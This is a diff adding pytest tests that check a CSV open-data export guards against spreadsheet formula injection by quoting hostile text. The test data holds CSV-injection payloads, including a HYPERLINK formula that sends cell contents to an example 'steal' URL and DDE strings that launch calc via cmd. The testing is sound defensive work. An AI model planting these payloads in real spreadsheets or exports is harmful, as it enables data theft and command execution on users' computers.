@@ -10,6 +10,7 @@ from decimal import ROUND_HALF_UP, Decimal
 from fractions import Fraction
 
 import pytest
+from marshmallow import fields
 from sqlalchemy import select
 
 from assessor.assessments.answers import save_answer
@@ -17,6 +18,7 @@ from assessor.assessments.models import Answer
 from assessor.assessments.service import start_assessment
 from assessor.assessments.workflow import publish, revise, submit, withdraw
 from assessor.opendata.formats import FIELDS
+from assessor.opendata.schemas import JudgementSchema
 from assessor.opendata.service import LICENCE
 from config import PROJECT_DIR
 from tests.factories import (
@@ -31,6 +33,9 @@ from tests.processes.test_pages import published_assessment as published_sample_
 
 OPEN_DATA_DOC = PROJECT_DIR / "docs" / "open-data.md"
 EXAMPLE = re.compile(r"<!-- example:begin -->\s*```python\n(.*?)```\s*<!-- example:end -->", re.S)
+RAW_TEXT = re.compile(
+    r"<!-- raw-text:begin -->\s*```python\n(.*?)```\s*<!-- raw-text:end -->", re.S
+)
 # Questions of the shipped rubric that allow "not applicable".
 MAY_NOT_APPLY = ("equal_footing.advisory_group_formation", "transparency.decision_records")
 EMAILS = ("ana@example.org", "ben@example.org", "rui@example.org", "admin@example.org")
@@ -355,3 +360,87 @@ def test_the_documented_example_recomputes_the_scorecards(client, assessments):
     for assessment_id, result in results.items():
         card = client.get(f"/api/v1/assessments/{assessment_id}/scorecard").get_json()
         assert float(namespace["two_decimals"](result["score"])) == card["score"]
+
+
+# Text that a spreadsheet would run as a formula
+
+# What spreadsheets run as a formula when a cell starts with it (OWASP, CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = (
+    '=HYPERLINK("https://example.org/steal?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "A plain rationale.",
+)
+TEXT_COLUMNS = tuple(
+    name for name, field in JudgementSchema().fields.items() if not isinstance(field, fields.Number)
+)
+
+
+@pytest.fixture
+def hostile(session, people, rubric):
+    """A published and a withdrawn assessment whose every text typed by someone is hostile."""
+    process = stored_process(session, name=HOSTILE[0], convening_organization=HOSTILE[1])
+    people["ana"].display_name = HOSTILE[3]
+    assessment = start_assessment(
+        session, people["ana"], {"process_id": process.id, "rubric": rubric.label}
+    )
+    questions = [q.key for pillar in rubric.pillars for q in pillar.questions]
+    for index, key in enumerate(questions):
+        answer = {"level": 2, "evidence": evidence(key), "rationale": HOSTILE[index % len(HOSTILE)]}
+        save(session, people["ana"], assessment, key, answer)
+    submit(session, people["ana"], assessment)
+    publish(session, people["rui"], assessment)
+    withdrawn = published_assessment(session, rubric, process, people["ben"], people["rui"])
+    withdraw(session, people["admin"], withdrawn, HOSTILE[2])
+    session.commit()
+    return {"published": assessment.id, "withdrawn": withdrawn.id}
+
+
+def test_no_text_cell_of_the_csv_starts_a_formula(client, hostile):
+    rows = csv_rows(client)
+    assert len(by_assessment(rows)) == 2
+    for row in rows:
+        for column in TEXT_COLUMNS:
+            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
+
+
+def test_hostile_text_is_written_behind_one_quote(client, hostile):
+    grouped = by_assessment(csv_rows(client))
+    published, withdrawn = grouped[hostile["published"]], grouped[hostile["withdrawn"]]
+    assert {row["process_name"] for row in published} == {"'" + HOSTILE[0]}
+    assert {row["convening_organization"] for row in published} == {"'" + HOSTILE[1]}
+    assert {row["assessor_display_name"] for row in published} == {"'" + HOSTILE[3]}
+    assert {row["withdrawal_reason"] for row in withdrawn} == {"'" + HOSTILE[2]}
+    rationales = {row["rationale"] for row in published}
+    assert rationales == {"'" + text for text in HOSTILE[:-1]} | {HOSTILE[-1]}
+
+
+def test_the_documented_rule_gives_back_every_text_the_json_holds(client, hostile):
+    namespace: dict = {}
+    exec(RAW_TEXT.search(OPEN_DATA_DOC.read_text(encoding="utf-8"))[1], namespace)
+    judgements = client.get("/data/judgements.json").get_json()["judgements"]
+    rows = csv_rows(client)
+    assert len(rows) == len(judgements)
+    for row, judgement in zip(rows, judgements, strict=True):
+        for column in TEXT_COLUMNS:
+            value = judgement[column]
+            typed = " ".join(value) if isinstance(value, list) else value or ""
+            assert namespace["raw_text"](row[column]) == typed, column
+
+
+def test_numbers_stay_numbers_beside_hostile_text(client, hostile):
+    for row in csv_rows(client):
+        assert int(row["assessment_id"]) in hostile.values()
+        assert float(row["pillar_weight"]) > 0 and float(row["question_weight"]) > 0
+        assert 0 <= int(row["level"]) <= 4
+
+
+def test_scores_are_recomputed_from_a_csv_holding_hostile_text(client, hostile):
+    for assessment_id, rows in by_assessment(csv_rows(client)).items():
+        card = client.get(f"/api/v1/assessments/{assessment_id}/scorecard").get_json()
+        assert api_rounding(recomputed(rows)[0]) == card["score"]
